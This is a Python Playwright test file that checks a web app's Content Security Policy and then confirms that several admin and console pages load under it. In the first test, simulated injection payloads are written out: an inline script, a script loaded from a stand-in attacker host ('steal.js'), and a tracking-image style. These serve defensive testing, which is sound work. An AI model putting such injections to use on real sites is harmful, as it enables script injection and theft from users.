"""The pages in headless Chromium under their real headers: the Content Security Policy holds (an injected
inline script, a script from another site and an inline style are refused) and the watch in tests/browser.py
sees each refusal — so the other browser tests, which fail on any refusal, prove the pages need nothing the
policy forbids."""
from __future__ import annotations

import pytest

from api.http_security import PAGE_POLICY
from engine import deploy, identity
from engine.models import User

from .browser import PASSWORD, sign_in
from .conftest import BPMN_DIR

pytestmark = pytest.mark.slow


def test_the_policy_refuses_what_an_injection_would_need_and_the_watch_sees_it(site, browser):
    base, _ = site
    page = browser.new_page(locale="zh-CN")
    response = page.goto(f"{base}/sign-in")
    assert response.headers["content-security-policy"] == PAGE_POLICY
    assert response.headers["x-frame-options"] == "DENY"
    page.evaluate("""() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.injected = true';
        document.head.appendChild(inline);
        const remote = document.createElement('script');
        remote.src = 'https://cdn.evil.example/steal.js';
        document.head.appendChild(remote);
        const style = document.createElement('div');
        style.setAttribute('style', 'background: url(https://evil.example/track.png)');
        document.body.appendChild(style);
    }""")
    page.wait_for_function("() => (window.cspViolations || []).length >= 3")  # reports are dispatched as tasks
    assert page.evaluate("() => window.injected") is None
    seen = list(browser.problems)
    browser.problems.clear()  # seen as they should be: this test's refusals are not a failure of the pages
    assert any("script-src-elem refused inline" in p for p in seen), seen
    assert any("cdn.evil.example" in p for p in seen), seen
    assert any("style-src-attr refused inline" in p for p in seen), seen
    sign_in(page, base, "market_clerk")
    assert page.locator("h1").inner_text() == "待办事项" and browser.problems == []


#: pages the other browser tests do not open, each with what shows it has done its work
PAGES = [("/inbox", "h1"), ("/console/cases", "h1"), ("/console/processes", "h1"), ("/design", "h1"),
         ("/design/processes/consultation", "h1"), ("/design/processes/consultation/diff", ".diagram[data-rendered=true]"),
         ("/admin/items", "h1"), ("/admin/departments", "h1"), ("/admin/authorizations", "h1"),
         ("/admin/entry-confirmations", "h1"), ("/admin/sign-ins", "#throttled-names"), ("/guide/", "h1"),
         ("/no-such-page", "main")]


def test_every_kind_of_page_works_under_the_policy(site, browser, sessions):
    base, _ = site
    consultation = (BPMN_DIR / "design" / "consultation.bpmn").read_bytes()
    with sessions.begin() as session:  # two versions, for the side-by-side diagrams of the diff page
        deploy.deploy(session, [("consultation.bpmn", consultation)], actor="test")
        deploy.deploy(session, [("consultation.bpmn", consultation.replace(b'name="', b'name="v2 ', 1))], actor="test")
        session.get(User, "admin").password_hash = identity._HASHER.hash(PASSWORD)
    page = browser.new_page(locale="zh-CN", viewport={"width": 1366, "height": 1000})
    sign_in(page, base, "admin")
    for path, ready in PAGES:
        response = page.goto(base + path)
        page.wait_for_selector(ready)
        assert response.headers["content-security-policy"] == PAGE_POLICY, path
        assert response.status == (404 if path == "/no-such-page" else 200), path
    page.goto(f"{base}/console/dashboard")
    page.wait_for_selector("body[data-charts='5']")
    texts = page.locator("#chart-days svg text").count()
    box = page.locator("#chart-days").bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, steps=5)  # ECharts' tooltip
    # the tooltip is drawn inside the chart (SVG text), not as HTML with style attributes
    page.wait_for_function("n => document.querySelectorAll('#chart-days svg text').length > n", arg=texts)
    assert browser.problems == [], "\n".join(browser.problems)
